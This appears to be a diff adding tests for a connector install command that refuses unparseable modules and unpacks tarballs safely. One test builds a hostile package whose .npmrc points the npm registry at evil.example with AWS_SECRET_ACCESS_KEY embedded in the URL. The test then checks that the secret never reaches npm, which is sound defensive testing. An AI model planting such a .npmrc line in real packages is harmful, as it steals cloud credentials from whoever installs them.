@@ -128,6 +128,13 @@ describe('mem connector install', () => {
       'there is no src/x.js',
     ],
     [
+      'whose module does not parse',
+      { 'transform.mjs': 'export class Tested {\n  transform( {\n}' },
+      'the module of bad does not load: SyntaxError',
+    ],
+    ['whose module does not parse, with the line', { 'transform.mjs': 'export class {\n' }, 'transform.mjs:1'],
+    ['without its class', { 'transform.mjs': 'export class Other {}' }, 'transform.mjs exports no class Tested'],
+    [
       'for a newer service',
       { 'connector.yaml': manifestText('bad', { min_amfs_version: '9.9.9' }) },
       'asks for mem 9.9.9',
@@ -140,6 +147,15 @@ describe('mem connector install', () => {
     const before = existsSync(installedIn()) ? readdirSync(installedIn()) : [];
     expect(await run('install', folder)).toMatchObject({ code: 2, err: expect.stringContaining(message) });
     expect(readdirSync(installedIn())).toEqual(before);
+  });
+
+  it('takes one whose constructor needs variables that are not set yet', async () => {
+    const folder = sources('needy');
+    writeFileSync(
+      join(folder, 'transform.mjs'),
+      `export class Tested { constructor() { throw new Error('no token'); } transform() { return []; } }`,
+    );
+    expect((await run('install', folder)).code).toBe(0);
   });
 
   it('refuses links in a folder', async () => {
@@ -217,6 +233,42 @@ describe('a tarball', () => {
   ])('with %s is refused', async (_, make, message) => {
     expect(await run('install', make())).toMatchObject({ code: 2, err: expect.stringContaining(message) });
     expect(existsSync(join(desk.folder, 'escaped'))).toBe(false);
+  });
+
+  it('is unpacked without settings of npm, and npm gets no variables that it does not need', async () => {
+    const file = (path: string, text: string) => {
+      const padded = Buffer.alloc(Math.ceil(text.length / 512) * 512);
+      padded.write(text);
+      return [header(`package/${path}`, { size: text.length }), padded];
+    };
+    // Instead of npm, a program that writes down its environment.
+    const bin = newFolder();
+    const seen = join(bin, 'seen.json');
+    const program = `#!${process.execPath}\nrequire('fs').writeFileSync(${JSON.stringify(seen)}, JSON.stringify(process.env));`;
+    writeFileSync(join(bin, 'npm'), program, { mode: 0o755 });
+    const hostile = tarball(
+      ...file('connector.yaml', manifestText('sneaky')),
+      ...file('transform.mjs', classWith(ECHO)),
+      ...file('package.json', packageFile('sneaky', { dependencies: { units: '1.0.0' } })),
+      ...file('.npmrc', `registry=https://evil.example/\${AWS_SECRET_ACCESS_KEY}/`),
+      ...file('lib/.env', 'x'),
+      ...file('node_modules/units/index.js', '1'),
+    );
+    const env = {
+      PATH: `${bin}:${process.env.PATH}`,
+      AWS_SECRET_ACCESS_KEY: 'swordfish',
+      npm_config_registry: 'https://r.example',
+    };
+    const { code, err } = await desk.inProcess(['connector', 'install', hostile], { env });
+    expect({ code, err }).toEqual({ code: 0, err: '' });
+    expect(readdirSync(join(installedIn(), 'sneaky')).sort()).toEqual([
+      'connector.yaml',
+      'package.json',
+      'transform.mjs',
+    ]);
+    const variables = JSON.parse(readFileSync(seen, 'utf8'));
+    expect(variables).toMatchObject({ npm_config_registry: 'https://r.example' });
+    expect(JSON.stringify(variables)).not.toContain('swordfish');
   });
 
   it('that is none is refused', async () => {
